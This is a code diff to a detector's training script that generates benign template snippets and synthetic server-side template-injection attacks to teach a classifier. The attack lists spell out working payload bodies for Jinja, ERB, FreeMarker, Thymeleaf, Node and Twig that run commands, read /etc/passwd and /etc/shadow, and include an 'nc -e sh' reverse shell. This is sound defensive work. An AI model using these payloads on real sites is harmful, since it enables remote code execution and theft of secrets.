@@ -25,6 +25,7 @@ import gzip
 import hashlib
 import json
 import math
+import random
 import re
 import time
 import unicodedata
@@ -34,6 +35,7 @@ from dataclasses import dataclass
 from pathlib import Path
 from typing import TYPE_CHECKING
 
+from guard.engine.detector import SEMANTIC_MIN_LENGTH
 from guard.engine.normalize import normalize
 from guard.engine.semantic import (
     BLOCKS,
@@ -368,13 +370,18 @@ class Report:
 
 
 def evaluate(analyzer: SemanticAnalyzer, lines: Iterable[Line], threshold: float) -> Report:
-    """Score every line and count detections per class and false positives per source."""
+    """Score every line and count detections per class and false positives per source; a
+    line shorter than the engine's :data:`~guard.engine.detector.SEMANTIC_MIN_LENGTH` counts
+    as not flagged, as the engine never asks the model about it."""
     detected: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
     correct: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
     false_pos: defaultdict[str, list[int]] = defaultdict(lambda: [0, 0])
     for line in lines:
-        verdict = analyzer.analyze(normalize(line.payload))
-        flagged = verdict.probability >= threshold
+        canonical = normalize(line.payload)
+        verdict = analyzer.analyze(canonical)
+        # The engine never asks the model about a value under its length gate (a ";)").
+        asked = len(canonical.strip()) >= SEMANTIC_MIN_LENGTH
+        flagged = asked and verdict.probability >= threshold
         if line.label == "benign":
             false_pos[line.source][0] += flagged
             false_pos[line.source][1] += 1
@@ -485,8 +492,6 @@ def benign_markup(count: int = MARKUP_LINES, seed: int = MARKUP_SEED) -> list[Li
     hosts and words, not copied from any package's documentation (the held-out corpus draws on
     real READMEs, which must stay unseen).
     """
-    import random
-
     rng = random.Random(seed)
 
     def url(image: bool) -> str:
@@ -505,15 +510,309 @@ def benign_markup(count: int = MARKUP_LINES, seed: int = MARKUP_SEED) -> list[Li
     return lines
 
 
+TEMPLATE_SOURCE = "synthetic:benign-templates"
+TEMPLATE_LINES = 1000
+TEMPLATE_SEED = 20261127
+
+_T_OBJECTS = (
+    "user", "order", "product", "post", "item", "page", "article", "customer", "invoice",
+    "event", "comment", "author", "cart", "account", "profile", "team", "project", "ticket",
+    "entry", "booking", "member", "listing", "course", "recipe",
+)
+_T_ATTRIBUTES = (
+    "name", "title", "email", "total", "price", "quantity", "created_at", "updated_at", "slug",
+    "id", "status", "description", "first_name", "last_name", "count", "summary", "city",
+    "country", "label", "amount", "date", "excerpt", "avatar_url", "display_name", "sku",
+    "currency", "due_date", "position", "score", "body",
+)
+_T_COLLECTIONS = (
+    "items", "products", "posts", "orders", "users", "comments", "entries", "rows", "tags",
+    "results", "links", "events", "members", "invoices", "tasks", "reviews", "photos",
+)
+_T_PARTIALS = (
+    "header", "footer", "nav", "sidebar", "card", "pagination", "breadcrumbs", "flash",
+    "product_card", "user_badge", "empty_state", "price_tag", "meta",
+)
+_T_SECTIONS = ("cart", "nav", "auth", "checkout", "errors", "home", "orders", "profile", "footer",
+               "search", "common", "emails")
+_T_KEYS = ("title", "total", "sign_in", "sign_out", "welcome", "button", "required", "empty",
+           "more", "greeting", "subtitle", "items_count", "placeholder", "save", "cancel")
+_T_WORDS = (
+    "No results", "Your cart is empty", "Read more", "Price", "Order summary", "Sign in",
+    "Last updated", "Contact us", "Total", "Shipping", "Free returns", "Out of stock",
+    "Add to cart", "View all", "Next page", "Previous", "Subscribe", "Terms of service",
+    "Privacy", "Due today", "Draft", "Published", "Archived", "Details", "Download PDF",
+    "Edit profile", "Log out", "Save changes", "Quantity", "Subtotal",
+)
+_T_JINJA_FILTERS = (
+    "upper", "lower", "title", "capitalize", "escape", "e", "striptags", "trim", "length",
+    "default('n/a')", "truncate(80)", 'date("Y-m-d")', "wordcount", "round(2)", "first",
+    "join(', ')", "format_currency", "urlencode", "safe", "linebreaksbr", "naturaltime",
+    "floatformat:2", "pluralize", "date:\"D d M Y\"", "intcomma", "filesizeformat",
+)
+_T_LIQUID_FILTERS = (
+    "escape", "upcase", "downcase", "money", 'date: "%b %d, %Y"', 'default: "n/a"',
+    "truncate: 50", "size", "strip_html", "url_encode", "handleize", "capitalize",
+    "money_with_currency", "img_url: '300x'", "asset_url", "stylesheet_tag", "t",
+)
+# Template source by language, one snippet each: {o} an object, {a} an attribute, {c} a
+# collection, {v} a loop variable, {p} a partial, {k} a message key, {w} words, {f} a Jinja-style
+# filter, {lf} a Liquid filter, {n} a small number.
+_T_SNIPPETS: dict[str, tuple[str, ...]] = {
+    "jinja": (  # Jinja, Twig, Django, Nunjucks
+        "{{{{ {o}.{a} }}}}", "{{{{ {o}.{a}|{f} }}}}", "{{{{ {o}.{a} | {f} }}}}",
+        "{{% for {v} in {c} %}}", "{{% endfor %}}", "{{% if {o}.{a} %}}", "{{% else %}}",
+        "{{% endif %}}", "{{% elif {o}.{a} == '{a}' %}}", "{{% block content %}}",
+        "{{% endblock %}}",
+        '{{% extends "layouts/base.html" %}}', "{{% include 'partials/_{p}.html' %}}",
+        "{{% include \"components/{p}.html.twig\" with {{'title': {o}.{a}}} only %}}",
+        "{{% url '{c}:detail' slug={o}.slug %}}", '{{% trans "{w}" %}}', "{{{{ _('{w}') }}}}",
+        "{{% set total = 0 %}}", "{{{{ loop.index }}}}", "{{% for {v} in {c} if {v}.{a} %}}",
+        "{{% macro field(name, label, type='text') %}}", "{{% endmacro %}}", "{{% load static %}}",
+        "{{% static 'css/{p}.css' %}}", "{{{{ {o}.{a}|default:\"{w}\" }}}}",
+        "{{{{ {v}.{a} }}}} ({{{{ {v}.{c}|length }}}})", "{{% with {v}={o}.{a} %}}",
+        "{{{{ {o}.{a} is empty ? '{w}' : {o}.{a} }}}}", "{{% if {c}|length > {n} %}}",
+        "{{{{ '{s}.{k}'|trans }}}}", "{{{{ {o}.{a}|date('d/m/Y') }}}}", "{{% csrf_token %}}",
+    ),
+    "liquid": (  # Liquid (Shopify, Jekyll)
+        "{{{{ {o}.{a} | {lf} }}}}", "{{% assign {v} = {o}.{a} | {lf} %}}",
+        "{{% for {v} in {o}.{c} limit: {n} %}}", "{{% render '{p}', {o}: {o} %}}",
+        "{{{{ '{s}.{k}' | t }}}}", "{{{{ site.baseurl }}}}/{c}/", "{{{{ page.{a} | {lf} }}}}",
+        "{{% capture {v} %}}{{{{ {o}.{a} }}}}{{% endcapture %}}", "{{% unless {o}.{a} %}}",
+        "{{% endunless %}}", "{{% comment %}}{w}{{% endcomment %}}", "{{{{ content }}}}",
+        "{{% paginate {o}.{c} by {n} %}}", "{{% post_url 2024-03-0{n}-{p} %}}",
+    ),
+    "handlebars": (  # Handlebars, Mustache
+        "{{{{#each {c}}}}}", "{{{{/each}}}}", "{{{{#if {o}.{a}}}}}", "{{{{/if}}}}", "{{{{else}}}}",
+        "{{{{> {p}}}}}", "{{{{{{{o}.{a}}}}}}}", "{{{{this.{a}}}}}", "{{{{@index}}}}",
+        "{{{{#with {o}}}}}{{{{{a}}}}}{{{{/with}}}}", "{{{{#unless {a}}}}}{w}{{{{/unless}}}}",
+        "{{{{t \"{s}.{k}\"}}}}", "{{{{formatDate {o}.{a} \"YYYY-MM-DD\"}}}}", "{{{{! {w} }}}}",
+        "{{{{^{c}}}}}{w}{{{{/{c}}}}}", "{{{{#{c}}}}}<li>{{{{{a}}}}}</li>{{{{/{c}}}}}",
+    ),
+    "go": (  # Go templates, Helm, Hugo
+        "{{{{ .Values.image.repository }}}}:{{{{ .Values.image.tag }}}}",
+        '{{{{- include "{p}.fullname" . }}}}', '{{{{- include "{p}.labels" . | nindent {n} }}}}',
+        "{{{{ range .{C} }}}}{{{{ .{A} }}}}{{{{ end }}}}",
+        "{{{{ with .Params.{a} }}}}{{{{ .Name }}}}{{{{ end }}}}",
+        '{{{{ .Date.Format "2006-01-02" }}}}', '{{{{ printf "%s-%s" .Release.Name .Chart.Name }}}}',
+        "{{{{- toYaml .Values.resources | nindent {n} }}}}", '{{{{ partial "{p}.html" . }}}}',
+        "{{{{- if .Values.{a}.enabled }}}}", "{{{{- end }}}}", "{{{{ .Release.Namespace }}}}",
+        "{{{{ .{A} | html }}}}", "{{{{ $.Site.Title }}}}", '{{{{< figure src="/img/{p}.jpg" >}}}}',
+        "{{{{ range $key, $value := .Values.{a} }}}}", "{{{{ $key }}}}: {{{{ $value | quote }}}}",
+        '{{{{ template "{p}" . }}}}', '{{{{ define "{p}" }}}}', "{{{{ len .{C} }}}}",
+    ),
+    "erb": (  # ERB, EJS
+        "<%= {o}.{a} %>", "<%= @{o}.{a} %>", "<% @{c}.each do |{v}| %>", "<% end %>",
+        "<%= link_to '{w}', {o}_path(@{o}) %>", "<%= t('.{k}') %>",
+        "<%= t('{s}.{k}', count: {n}) %>",
+        "<% if @{o}.{a}.present? %>", "<%= render '{p}', {o}: @{o} %>",
+        "<%= number_to_currency(@{o}.{a}) %>",
+        "<%- include('partials/{p}', {{ {o}: {o} }}) %>", "<% if ({o}) {{ %>", "<% }} %>",
+        "<% {c}.forEach(function({v}) {{ %>", "<% }}) %>", "<%= {v}.{a} %>", "<%# {w} %>",
+        "<%= form_with model: @{o} do |form| %>", "<%= image_tag @{o}.{a}, alt: '{w}' %>",
+    ),
+    "freemarker": (  # FreeMarker, Velocity
+        "${{{o}.{a}}}", "<#list {c} as {v}>${{{v}.{a}}}</#list>", "<#if {o}??>", "</#if>",
+        "${{{o}.{a}?string.currency}}", "<#assign total = 0>", '${{{o}.{a}!"{w}"}}',
+        "<#include \"/{p}.ftl\">", '<@layout.page title="{w}">', "</@layout.page>", "<#else>",
+        "${{{o}.{a}?html}}", '${{{o}.{a}?string("dd.MM.yyyy")}}', "<#sep>, ",
+        "#foreach( ${v} in ${c} )", "#end", "#if( ${o}.{a} )", "${o}.{a}", "$!{{{o}.{a}}}",
+        "#set( $count = {n} )", "#else",
+    ),
+    "thymeleaf": (  # Thymeleaf, JSP/EL, Spring
+        '<span th:text="${{{o}.{a}}}">{w}</span>', '<tr th:each="{v} : ${{{c}}}">',
+        '<a th:href="@{{/{c}/{{id}}(id=${{{o}.id}})}}">{w}</a>',
+        '<p th:if="${{{o}.{a} != null}}">', '<td th:text="*{{{a}}}">', "${{{o}.{a}}}",
+        '<c:forEach var="{v}" items="${{{c}}}">', '<c:out value="${{{v}.{a}}}"/>',
+        '<spring:message code="{s}.{k}"/>',
+        '<fmt:formatNumber value="${{{o}.{a}}}" type="currency"/>',
+        '<span th:text="${{#temporals.format({o}.{a}, \'dd/MM/yyyy\')}}">',
+    ),
+    "blade": (  # Blade, Razor, Smarty
+        "{{{{ ${o}->{a} }}}}", "@foreach (${c} as ${v})", "@endforeach", "@if (${o}->{a})",
+        "@endif",
+        "{{{{ __('{s}.{k}') }}}}", "@include('partials.{p}')", "{{{{ route('{c}.show', ${o}) }}}}",
+        "@extends('layouts.app')", "@section('content')", "@endsection", "@csrf",
+        "@Model.{A}", "@foreach (var {v} in Model.{C})", "@Html.DisplayFor(m => m.{A})",
+        "{{${o}.{a}|escape}}", "{{foreach ${c} as ${v}}}", "{{/foreach}}", "{{if ${o}.{a}}}",
+        "{{/if}}",
+    ),
+    "vue": (  # Vue, Angular, Svelte
+        "{{{{ {o}.{a} }}}}", "{{{{ $t('{s}.{k}') }}}}",
+        "{{{{ $t('{s}.{k}', {{ {a}: {o}.{a} }}) }}}}",
+        '<li v-for="{v} in {c}" :key="{v}.id">{{{{ {v}.{a} }}}}</li>', "{{{{ {o}?.{a} }}}}",
+        '<div *ngFor="let {v} of {c}">{{{{ {v}.{a} | uppercase }}}}</div>',
+        "{{{{ {o}.{a} | currency:'EUR' }}}}", "{{{{ {o}.{a} | date:'short' }}}}",
+        "{{#each {c} as {v}}}", "{{/each}}", "{{#if {o}.{a}}}", "{{{o}.{a}}}",
+    ),
+    "i18n": (  # ICU, gettext, i18n resource files
+        '"{k}": "{w}, {{name}}!"', '"{k}": "{{count, plural, one {{# item}} other {{# items}}}}"',
+        'msgid "{w}"', 'msgstr "{w}"', '{k}: "{w} %{{name}}"', "{s}.{k}={w} {{0}}",
+        '"{k}": "{w} {{{{count}}}}"', "{k} = {w}, {{ $name }}",
+    ),
+}
+_T_WRAPPERS = ("<p>{x}</p>", "<li>{x}</li>", "<td>{x}</td>",
+               '<div class="{p}">{x}</div>', "<h1>{x}</h1>", "<span>{x}</span>")
+
+
+def _template_snippet(rng: random.Random, language: tuple[str, ...]) -> str:
+    """One snippet of ``language`` (a group of :data:`_T_SNIPPETS`) with invented names."""
+    o, v = rng.sample(_T_OBJECTS, 2)
+    a, c = rng.choice(_T_ATTRIBUTES), rng.choice(_T_COLLECTIONS)
+    return rng.choice(language).format(
+        o=o, a=a, c=c, v=v, p=rng.choice(_T_PARTIALS), k=rng.choice(_T_KEYS),
+        s=rng.choice(_T_SECTIONS), w=rng.choice(_T_WORDS), n=rng.randint(1, 12),
+        f=rng.choice(_T_JINJA_FILTERS), lf=rng.choice(_T_LIQUID_FILTERS),
+        A="".join(x.title() for x in a.split("_")), C=c.title(),
+    )
+
+
+def benign_templates(count: int = TEMPLATE_LINES, seed: int = TEMPLATE_SEED) -> list[Line]:
+    """Return ``count`` generated benign lines of template source, labelled benign.
+
+    Output tags, loops, conditions, includes, filters and translation keys in the template
+    languages CMS editors and developers paste (Jinja, Django, Twig, Liquid, Handlebars,
+    Go and Helm, ERB and EJS, FreeMarker, Velocity, Thymeleaf and JSP, Blade, Razor, Smarty,
+    Vue, Angular, Svelte) and the placeholders of i18n files, naming data only. Without them
+    the model reads any ``{{ }}`` or ``<#list>`` as template injection. Built from the
+    snippets above with invented names; :func:`attack_templates` puts the same syntax around
+    code, so the model learns the names a tag reaches, not its braces.
+    """
+    rng = random.Random(seed)
+    lines: list[Line] = []
+    for _ in range(count):
+        parts = []
+        language = _T_SNIPPETS[rng.choice(sorted(_T_SNIPPETS))]
+        size = rng.choice((1, 1, 2, 2, 3, 4))
+        for _ in range(size):
+            snippet = _template_snippet(rng, language)
+            # A lone bare tag ({% block body %}) stays unlabelled: payload lists send it
+            # as a probe, and only the rest of a page tells template source from it.
+            if size > 1 and rng.random() < 0.6:
+                parts.append(snippet)
+            else:
+                parts.append(rng.choice(_T_WRAPPERS).format(x=snippet, p=rng.choice(_T_PARTIALS)))
+        lines.append(Line(rng.choice(("", "\n", " ", "\n  ")).join(parts), "benign", "benign",
+                          TEMPLATE_SOURCE))
+    return lines
+
+
+ATTACK_TEMPLATE_SOURCE = "synthetic:attack-templates"
+ATTACK_TEMPLATE_LINES = 600
+# What a template-injection payload reaches, per engine family: the runtime, the process, the
+# environment, secrets and session state, object internals, files, and the probes that show
+# evaluation (a constant product, the whole data object).
+_A_BODIES: dict[str, tuple[str, ...]] = {
+    "python": (
+        "config", "config.items()", "self", "self.__dict__", "request.environ",
+        "request.application.__globals__.__builtins__", "settings.SECRET_KEY",
+        "lipsum.__globals__.os.popen('{cmd}').read()", "cycler.__init__.__globals__.os",
+        "get_flashed_messages.__globals__", "url_for.__globals__['current_app'].config",
+        "''.__class__.__mro__[1].__subclasses__()", "namespace.__init__.__globals__",
+        "request|attr('application')", "{o}.password", "session", "g.user.__dict__",
+        "config.SECRET_KEY", "joiner.__init__.__globals__.os.popen('{cmd}')", "7*7", "7*'7'",
+        "range.__init__.__globals__", "app.secret_key", "{o}.{a}.__class__.__base__",
+    ),
+    "ruby": (
+        "`{cmd}`", "system('{cmd}')", "Kernel.send :system, '{cmd}'", "IO.popen('{cmd}').read",
+        "File.read('{file}')", "ENV", "ENV['SECRET_KEY_BASE']", "Rails.application.secrets",
+        "eval('{n}*{n}')", "Dir.entries('/')", "session.id", "params", "cookies",
+        "Open3.capture2('{cmd}')", "{o}.password_digest", "%x({cmd})", "7*7",
+    ),
+    "java": (
+        "T(java.lang.Runtime).getRuntime().exec('{cmd}')",
+        "''.getClass().forName('java.lang.Runtime')", "applicationScope",
+        "\"freemarker.template.utility.Execute\"?new()('{cmd}')", "session.getAttribute('{a}')",
+        "request.getServletContext()", "#ctx", "#request.getParameter('{a}')",
+        "T(java.lang.System).getenv()", "new java.util.Scanner(T(java.lang.Runtime)"
+        ".getRuntime().exec('{cmd}').getInputStream()).next()", "7*7", "{o}.getClass()",
+        "#session", "pageContext.request", "{o}.class.classLoader",
+    ),
+    "js": (
+        "this.constructor.constructor('return process')()", "process.env",
+        "process.mainModule.require('child_process').execSync('{cmd}')", "global.process",
+        "require('fs').readFileSync('{file}')", "constructor.constructor('alert({n})')()",
+        "range.constructor('return global.process')()", "7*7", "process.env.DATABASE_URL",
+    ),
+    "php": (
+        "_self.env.registerUndefinedFilterCallback('exec')", "app.request.server.all",
+        "dump(app)", "['{cmd}']|filter('system')", "system('{cmd}')", "include('{file}')",
+        "source('{file}')", "phpinfo()", "['{cmd}']|map('passthru')", "app.session.all",
+        "constant('DB_PASSWORD')", "7*7", "app.request.cookies.all",
+    ),
+    "go": (".", ".Env", ".Config", ".Secret", ".{A}.Password", "printf \"%v\" .",
+           "call .Exec \"{cmd}\"", ".Request.Header"),
+}
+_A_DELIMITERS: dict[str, tuple[str, ...]] = {
+    "python": ("{{{{{x}}}}}", "{{{{ {x} }}}}", "{{% print({x}) %}}", "${{{x}}}"),
+    "ruby": ("#{{{x}}}", "<%= {x} %>", "<%={x}%>"),
+    "java": ("${{{x}}}", "*{{{x}}}", "__${{{x}}}__::.x", "[[${{{x}}}]]"),
+    "js": ("{{{{{x}}}}}", "<%= {x} %>", "#{{{x}}}", "${{{x}}}"),
+    "php": ("{{{{{x}}}}}", "{{{{ {x} }}}}", "{{% set v = {x} %}}"),
+    "go": ("{{{{{x}}}}}", "{{{{ {x} }}}}"),
+}
+_A_LANGUAGES: dict[str, tuple[str, ...]] = {
+    "python": ("jinja", "liquid"), "ruby": ("erb",), "java": ("freemarker", "thymeleaf"),
+    "js": ("erb", "vue", "handlebars"), "php": ("blade", "jinja"), "go": ("go",),
+}
+"""The template languages whose benign snippets surround a family's payload."""
+_A_FRAMES = (
+    "Thanks for your order, {x}!", "Note: {x}", "Ship to {x} please", "Comment: looks great {x}",
+    "Dear {x}, your invoice is ready", "{x} - see attached", "My display name is {x}",
+    "Question about {x} in the report", "Re: {x}", "Best regards, {x}",
+    "The page shows {x} next to the total.", "In the docs, {x} appears under settings.",
+    "Good morning {x}, your parcel is on its way", "Review: five stars, {x}",
+    "Can you rename my team to {x}?", "Our template prints {x} in the footer.",
+    "Invoice memo: {x} for March", "Nickname {x} is taken, try another",
+    "Reply from {x}: thanks, that fixed it", "Title: {x} | Category: books",
+)
+_A_COMMANDS = ("id", "whoami", "cat /etc/passwd", "ls -la", "uname -a", "env", "nc -e sh host 4444")
+_A_FILES = ("/etc/passwd", "/etc/shadow", "../../config/secrets.yml", "/proc/self/environ")
+
+
+def attack_templates(count: int = ATTACK_TEMPLATE_LINES, seed: int = TEMPLATE_SEED) -> list[Line]:
+    """Return ``count`` generated template injections, labelled ``ssti``.
+
+    A tag reaching code (see :data:`_A_BODIES`) in an engine's delimiters, alone, in a short
+    message, or among the benign snippets of :func:`benign_templates`: the same syntax on
+    both sides of the label, so the model's weight goes to the names a tag reaches rather than
+    to its braces or the words around it.
+    """
+    rng = random.Random(seed)
+    lines: list[Line] = []
+    for _ in range(count):
+        family = rng.choice(sorted(_A_BODIES))
+        body = rng.choice(_A_BODIES[family]).format(
+            cmd=rng.choice(_A_COMMANDS), file=rng.choice(_A_FILES), n=rng.randint(2, 99),
+            o=rng.choice(_T_OBJECTS), a=rng.choice(_T_ATTRIBUTES),
+            A=rng.choice(_T_ATTRIBUTES).title().replace("_", ""),
+        )
+        tag = rng.choice(_A_DELIMITERS[family]).format(x=body)
+        frame = rng.random()
+        if frame < 0.4:
+            text = tag
+        elif frame < 0.7:
+            text = rng.choice(_A_FRAMES).format(x=tag)
+        else:
+            language = _T_SNIPPETS[rng.choice(_A_LANGUAGES[family])]
+            parts = [_template_snippet(rng, language) for _ in range(rng.randint(1, 3))]
+            parts.insert(rng.randint(0, len(parts)), tag)
+            text = rng.choice(("", "\n", " ")).join(parts)
+        lines.append(Line(text, "attack", "ssti", ATTACK_TEMPLATE_SOURCE))
+    return lines
+
+
 def train(corpus: Path, output: Path) -> SemanticAnalyzer:
-    """Train on the 80% splits of ``corpus`` and :data:`PROSE_CORPUS` plus :func:`benign_markup`,
-    write the model to ``output`` and load it back."""
+    """Train on the 80% splits of ``corpus`` and :data:`PROSE_CORPUS` plus :func:`benign_markup`
+    and the generated templates (:func:`benign_templates`, :func:`attack_templates`), write the
+    model to ``output`` and load it back."""
     train_lines, _ = split(load_corpus(corpus))
     prose_lines = [
         line for line in split(load_corpus(PROSE_CORPUS))[0]
         if not _TEMPLATE_SYNTAX.search(line.payload)
     ]
-    write_model(build_model(train_lines + prose_lines + benign_markup()), output)
+    generated = benign_markup() + benign_templates() + attack_templates()
+    write_model(build_model(train_lines + prose_lines + generated), output)
     return SemanticAnalyzer(output)
 
 
@@ -536,6 +835,10 @@ def main(argv: Sequence[str] | None = None) -> None:
     fresh = benign_markup(MARKUP_LINES, MARKUP_SEED + 1)
     print(format_report(evaluate(analyzer, fresh, args.threshold), args.threshold)
           .replace("held-out", "unseen generated markup", 1))
+    fresh = benign_templates(TEMPLATE_LINES, TEMPLATE_SEED + 1)
+    fresh += attack_templates(ATTACK_TEMPLATE_LINES, TEMPLATE_SEED + 1)
+    print(format_report(evaluate(analyzer, fresh, args.threshold), args.threshold)
+          .replace("held-out", "unseen generated templates", 1))
     print(format_gate(gate_rejections(analyzer, load_corpus(args.corpus))))
 
 
